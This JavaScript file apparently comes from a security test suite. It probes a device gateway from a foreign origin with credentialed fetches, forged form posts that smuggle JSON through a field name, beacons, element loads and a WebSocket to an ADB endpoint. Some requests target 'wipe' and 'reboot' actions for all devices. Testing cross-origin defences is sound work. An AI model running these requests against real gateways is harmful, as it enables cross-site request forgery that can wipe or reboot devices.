// Runs in a page of another origin, and tries whatever a page can; tells what it got to read.
globalThis.attack = async function attack(target) {
  const outcomes = [];
  const paths = ['/v1/default/device?limit=1', '/auth/session', '/admin/v1/apps'];
  const body = JSON.stringify({ devices: ['all'] });
  for (const path of paths) {
    for (const mode of ['cors', 'no-cors']) {
      for (const headers of [{}, { 'X-Requested-By': 'me' }, { 'Content-Type': 'text/plain' }]) {
        const what = `fetch ${mode} ${path} ${JSON.stringify(headers)}`;
        await fetch(target + path, { mode, headers, credentials: 'include' }).then(
          async (answer) => outcomes.push({ what, read: (await answer.text()) !== '' }),
          () => outcomes.push({ what, read: false }),
        );
      }
    }
  }
  for (const method of ['POST', 'PUT', 'DELETE']) {
    const what = `fetch ${method}`;
    await fetch(`${target}/v1/default/notify/wipe`, {
      method,
      body,
      credentials: 'include',
      headers: { 'X-Requested-By': 'me', 'Content-Type': 'application/json', 'Gateway-Confirm': 'wipe' },
    }).then(
      () => outcomes.push({ what, read: true }),
      () => outcomes.push({ what, read: false }),
    );
  }
  for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
    const frame = document.createElement('iframe');
    frame.name = enctype;
    const form = document.createElement('form');
    Object.assign(form, { method: 'POST', action: `${target}/v1/default/notify/reboot`, enctype, target: enctype });
    const field = document.createElement('input');
    Object.assign(field, { name: '{"devices":["all"],"x":"', value: '"}' });
    form.append(field);
    document.body.append(frame, form);
    const loaded = new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
    form.submit();
    await loaded;
    outcomes.push({ what: `form ${enctype}`, read: false });
  }
  for (const name of ['img', 'script', 'iframe', 'embed']) {
    const made = document.createElement(name);
    const settled = new Promise((resolve) => {
      made.onload = () => resolve(name === 'img' || name === 'script');
      made.onerror = () => resolve(false);
      if (name === 'embed') resolve(false);
    });
    made.src = `${target}/v1/default/device?limit=1`;
    document.body.append(made);
    outcomes.push({ what: name, read: await settled });
  }
  navigator.sendBeacon(`${target}/v1/default/notify/reboot`, body);
  outcomes.push({ what: 'beacon', read: false });
  const socket = new WebSocket(`${target.replace('https', 'wss')}/v1/global/xray/device/adb`);
  const opened = await new Promise((resolve) => {
    socket.onopen = () => resolve(true);
    socket.onerror = () => resolve(false);
  });
  outcomes.push({ what: 'WebSocket', read: opened });
  return outcomes;
};
